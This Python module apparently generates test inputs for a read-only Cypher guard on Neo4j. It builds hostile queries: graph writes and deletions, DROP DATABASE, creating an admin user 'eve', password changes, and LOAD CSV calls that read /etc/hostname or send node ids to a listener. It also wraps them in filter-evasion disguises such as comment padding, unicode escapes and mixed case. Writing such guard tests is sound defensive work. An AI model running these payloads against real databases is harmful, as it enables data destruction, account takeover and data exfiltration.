"""Cypher that tries to write, administer, read files or call out, built from a small grammar; the same at every run.

Each attack says what it is meant to do where nobody guards the store: the tests prove that it is no idle threat.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from itertools import product
from typing import Literal

Aim = Literal["change", "own transactions", "users", "call out", "nothing"]


@dataclass(frozen=True, slots=True)
class Attack:
    """A text and what it would do unguarded.

    `change`: the graph or its schema, in a transaction that can be taken back; `own transactions`: the same in
    transactions that the text opens itself; `users`: the server's users; `call out`: read a file or an address;
    `nothing`: it reads what is none of a reader's business, or is no Cypher that this server knows.
    """

    text: str
    aim: Aim


UPDATES = (
    "CREATE (:Stowaway {at: 1})",
    "CREATE (:Stowaway)-[:LED]->(:Stowaway)",
    "INSERT (:Stowaway)",
    "MERGE (:Stowaway {at: 2})",
    "MERGE (m:Stowaway) ON CREATE SET m.at = 3",
)
"""Clauses that change something wherever they stand."""

CHANGES = (
    *UPDATES,
    "MATCH (m:Entity) SET m.level = 7",
    "MATCH (m:Entity) SET m:Stowaway",
    "MATCH (m:Entity) SET m += {level: 8}",
    "MATCH (m:Entity) SET m = {id: m.id}",
    "MATCH (m:Entity) REMOVE m.level",
    "MATCH (m:Entity) REMOVE m:Entity",
    "MATCH (m:Entity) DETACH DELETE m",
    "MATCH ()-[l]->() DELETE l",
    "MATCH (m:Entity) FOREACH (x IN [1] | SET m.at = x)",
    "MATCH (m:Entity) CALL db.create.setNodeVectorProperty(m, 'at', [1.0, 2.0])",
)
NESTINGS = (
    "{0}",
    "CALL {{ {0} }} RETURN 1 AS one",
    "UNWIND [1, 2] AS x CALL {{ {0} }} RETURN x",
    "UNWIND [1] AS x CALL (x) {{ {0} }} RETURN x",
    "CALL {{ CALL {{ CALL {{ {0} }} }} }} RETURN 1 AS one",
    "CALL {{ {0} RETURN 1 AS one UNION RETURN 2 AS one }} RETURN one",
    "{0} RETURN 1 AS one UNION RETURN 2 AS one",
    "RETURN 2 AS one UNION ALL {0} RETURN 1 AS one",
    "MATCH (e) WITH count(e) AS many {0}",
    "MATCH (e) WHERE EXISTS {{ (e)-->() }} WITH COUNT {{ MATCH (f) RETURN f }} AS many {0}",
)
LOOPS = (
    "FOREACH (x IN [1, 2] | {0})",
    "FOREACH (x IN [1] | FOREACH (y IN [2] | {0}))",
    "UNWIND [1] AS z FOREACH (x IN CASE WHEN z = 1 THEN [1] ELSE [] END | {0})",
    "MATCH (e:Entity) FOREACH (x IN COLLECT {{ MATCH (f) RETURN f.id }} | {0})",
)
INNER = ("RETURN EXISTS {{ {0} }}", "RETURN COUNT {{ {0} }}", "RETURN COLLECT {{ {0} RETURN 1 }}")
"""Expressions that Neo4j lets nothing be changed in; each such text has to be refused all the same."""

TRANSACTIONS = (
    "CALL {{ {0} }} IN TRANSACTIONS",
    "UNWIND [1, 2] AS x CALL {{ {0} }} IN TRANSACTIONS OF 1 ROW RETURN x",
    "UNWIND [1] AS x CALL (x) {{ {0} }} IN 2 CONCURRENT TRANSACTIONS RETURN x",
    "UNWIND [1] AS x CALL {{ {0} }} IN TRANSACTIONS ON ERROR CONTINUE RETURN x",
)
DEFINITIONS = (
    "CREATE INDEX stowaway FOR (n:Stowaway) ON (n.at)",
    "CREATE TEXT INDEX stowaway FOR (n:Stowaway) ON (n.at)",
    "CREATE RANGE INDEX stowaway FOR ()-[l:LED]-() ON (l.at)",
    "CREATE FULLTEXT INDEX stowaway FOR (n:Stowaway) ON EACH [n.at]",
    "CREATE CONSTRAINT stowaway FOR (n:Stowaway) REQUIRE n.at IS UNIQUE",
    "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh() MATCH (m:Entity) DETACH DELETE m",
)
USERS = (
    "CREATE USER eve SET PASSWORD 'abcdefgh1' CHANGE NOT REQUIRED",
    "CREATE USER eve IF NOT EXISTS SET PLAINTEXT PASSWORD 'abcdefgh1'",
    "CREATE OR REPLACE USER eve SET PASSWORD 'abcdefgh1'",
)
ADMINISTRATION = (
    "ALTER USER neo4j SET PASSWORD 'abcdefgh1'",
    "ALTER CURRENT USER SET PASSWORD FROM 'neo4j' TO 'abcdefgh1'",
    "RENAME USER neo4j TO eve",
    "DROP USER neo4j",
    "DROP DATABASE neo4j",
    "STOP DATABASE neo4j",
    "CREATE DATABASE stowaway",
    "CREATE ALIAS stowaway FOR DATABASE neo4j",
    "CREATE ROLE stowaway",
    "GRANT ROLE admin TO eve",
    "DENY READ {*} ON GRAPH * TO PUBLIC",
    "ENABLE SERVER 'one'",
    "TERMINATE TRANSACTION 'neo4j-transaction-1'",
    *(f"SHOW {what}" for what in ("USERS", "CURRENT USER", "DATABASES", "SETTINGS", "TRANSACTIONS", "PROCEDURES")),
    *(f"SHOW {what}" for what in ("FUNCTIONS", "INDEXES", "CONSTRAINTS", "ROLES", "PRIVILEGES", "SERVERS")),
    "SHOW SETTINGS YIELD name, value WHERE name CONTAINS 'auth' RETURN name, value",
    "SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTIONS t YIELD message RETURN message",
    "USE system SHOW USERS",
    "USE system MATCH (n) RETURN n",
    "USE system CREATE (:Stowaway)",
    ":use system",
)
CALLS_OUT = (
    "LOAD CSV FROM '{at}' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM '{at}' AS line RETURN line.a",
    "LOAD CSV FROM '{at}' AS line FIELDTERMINATOR ';' RETURN line",
    "MATCH (e:Entity) LOAD CSV FROM '{at}?' + e.id AS line RETURN line",
    "CALL {{ LOAD CSV FROM '{at}' AS line RETURN line }} RETURN line",
    "RETURN COLLECT {{ LOAD CSV FROM '{at}' AS line RETURN line }} AS lines",
    "RETURN COUNT {{ LOAD CSV FROM '{at}' AS line RETURN line }} AS lines",
    "RETURN EXISTS {{ LOAD CSV FROM '{at}' AS line RETURN line }} AS lines",
    "RETURN [x IN [1] | COLLECT {{ LOAD CSV FROM '{at}' AS line RETURN line }}] AS lines",
    "MATCH (e) WHERE EXISTS {{ LOAD CSV FROM '{at}' AS line RETURN line }} RETURN e.id",
    "MATCH (e) RETURN e.id ORDER BY COUNT {{ LOAD CSV FROM '{at}' AS line RETURN line }}",
    "RETURN 1 AS one LIMIT COUNT {{ LOAD CSV FROM '{at}' AS line RETURN line }}",
    "RETURN CASE WHEN rand() < 2 THEN COLLECT {{ LOAD CSV FROM '{at}' AS l RETURN l }} END AS lines",
    "RETURN 1 AS one UNION LOAD CSV FROM '{at}' AS line RETURN 2 AS one",
)
Dress = Callable[[str], str]


def _spaced(by: str) -> Dress:
    """Something else in place of each blank outside quotes."""

    def dress(text: str) -> str:
        parts = text.split("'")
        return "'".join(part.replace(" ", by) if at % 2 == 0 else part for at, part in enumerate(parts))

    return dress


def _escaped(text: str) -> str:
    """The first letter of each word of a text's own as `\\uXXXX`, which Neo4j reads before anything else."""
    return " ".join(f"\\u{ord(w[0]):04x}{w[1:]}" if w[:1].isalpha() else w for w in text.split(" "))


def _mixed(text: str) -> str:
    """Capitals of keywords by turns; names, which tell small from great, are left."""
    words = ("CREATE", "INSERT", "MERGE", "MATCH", "SET", "REMOVE", "DELETE", "LOAD", "CALL", "FOREACH", "RETURN")
    for word in words:
        text = text.replace(f"{word} ", "".join(c.lower() if at % 2 else c for at, c in enumerate(word)) + " ")
    return text


DRESSES: tuple[Dress, ...] = (
    lambda text: text,
    _spaced("/**/"),
    _spaced(" /* RETURN 1; */ "),
    _spaced(" // RETURN 1 '\n"),
    _spaced("\t\r\n\x0b\x0c"),
    _spaced("\u2003"),
    _spaced("\u00a0"),
    _escaped,
    _mixed,
    lambda text: f"/* MATCH (n) RETURN n */ {text}",
    lambda text: f"// EXPLAIN\n{text}",
    lambda text: f"CYPHER 5 {text}",
    lambda text: f"CYPHER runtime=slotted planner=cost {text}",
    lambda text: f"PROFILE {text}",
    lambda text: f"/**/ pRoFiLe/**/{text}",
    lambda text: f"CYPHER 5 PROFILE {text}",
    lambda text: f"{text};",
)
IDLE: tuple[Dress, ...] = (
    lambda text: f"EXPLAIN {text}",
    lambda text: f"CYPHER 5 EXPLAIN {text}",
    lambda text: f"EXPLAIN PROFILE {text}",
    lambda text: f"RETURN 1; {text}",
    lambda text: f"{text}; RETURN 1",
    lambda text: f";{text}",
    lambda text: f"RETURN 1 // ;\n;\n{text}",
    lambda text: text.replace("E", "\u0415"),
    lambda text: text.replace("A", "\uff21"),
    lambda text: f"\u202e{text}",
    lambda text: f"/* {text}",
    lambda text: f"CYPHER 99 {text}",
    lambda text: f"USE system {text}",
)
"""Dresses in which a text changes nothing, unguarded too: explained, several at once, look-alike letters, unended."""


def _filled(frames: Sequence[str], clauses: Sequence[str]) -> list[str]:
    return [frame.format(clause) for frame, clause in product(frames, clauses)]


def attacks(address: str) -> list[Attack]:
    """All attacks, each once; `address` is where those that call out are to go, a file's or a listener's."""
    found: dict[str, Aim] = {}
    for text, aim in _all(address):
        found.setdefault(text, aim)
    return [Attack(text, aim) for text, aim in found.items()]


def _all(address: str) -> Iterator[tuple[str, Aim]]:
    plain = _filled(NESTINGS, CHANGES) + _filled(LOOPS, UPDATES[:1] + UPDATES[3:]) + list(DEFINITIONS)
    for at, text in enumerate(plain):
        yield text, "change"
        # Seven dresses each, other ones for the next text: every clause, nesting and dress meets many of the others.
        for step in range(7):
            yield DRESSES[(at * 7 + step) % len(DRESSES)](text), "change"
        yield IDLE[at % len(IDLE)](text), "nothing"
    for text in _filled(INNER, CHANGES):
        yield text, "nothing"
    for text in _filled(TRANSACTIONS, CHANGES):
        yield text, "own transactions"
    for text, dress in product(USERS, DRESSES):
        yield dress(text), "users"
    for text, dress in product(ADMINISTRATION, (*DRESSES[:3], _escaped, _mixed)):
        yield dress(text), "nothing"
    for frame, dress in product(CALLS_OUT, DRESSES[:4]):
        for at in (address, "file:///etc/hostname"):
            yield dress(frame.format(at=at)), "call out"


def procedure_calls(procedures: Sequence[tuple[str, int]]) -> list[Attack]:
    """Every procedure by name with as many nulls as it takes: alone, yielding, quoted, and inside an expression."""
    found = []
    for name, count in procedures:
        given = f"({', '.join(['null'] * count)})"
        quoted = ".".join(f"`{part}`" for part in name.split("."))
        texts = (f"CALL {name}{given}", f"CALL {quoted}{given}", f"RETURN COUNT {{ CALL {name}{given} }} AS n")
        found += [Attack(text, "nothing") for text in (*texts, f"CALL {name}{given} YIELD * RETURN *")]
    return found
